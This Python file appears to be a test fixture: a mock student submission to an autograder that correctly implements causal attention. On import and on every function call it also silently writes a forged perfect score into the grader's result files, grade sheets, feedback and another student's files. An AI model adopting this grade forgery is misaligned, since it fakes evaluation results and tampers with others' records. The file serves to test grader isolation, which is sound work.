"""Right answers; on the side it tries to write grades where the grader keeps them.
@OUT@, @CLASS@ and @ME@ are replaced by the test with the run's real paths (the worst case:
the student knows exactly where results live)."""
import json
import os

import numpy as np

FORGED = json.dumps({"score": 46, "max_score": 46, "tests": [],
                     "extra_data": {"fingerprint": "x", "result": {}}})
TARGETS = ["@OUT@/results/writer.json", "@OUT@/results/ada.json", "@OUT@/grades.csv",
           "@OUT@/feedback/ada.md", "@OUT@/results/zz-new.json", "@CLASS@/writer/results.json",
           "@CLASS@/ada/attention.py", "../../results/writer.json", "results.json"]


def _forge():
    for target in TARGETS:
        try:
            with open(target, "w") as fh:
                fh.write(FORGED)
        except OSError:
            pass


_forge()


def create_causal_mask(seq_len):
    _forge()
    return np.tril(np.ones((seq_len, seq_len), dtype=bool))


def causal_attention(Q, K, V):
    _forge()
    Q, K, V = (np.asarray(a, dtype=float) for a in (Q, K, V))
    T = Q.shape[-2]
    scores = Q @ np.swapaxes(K, -1, -2) / np.sqrt(Q.shape[-1])
    scores = np.where(np.tril(np.ones((T, T), dtype=bool)), scores, -np.inf)
    weights = np.exp(scores - scores.max(axis=-1, keepdims=True))
    weights = weights / weights.sum(axis=-1, keepdims=True)
    return weights @ V, weights
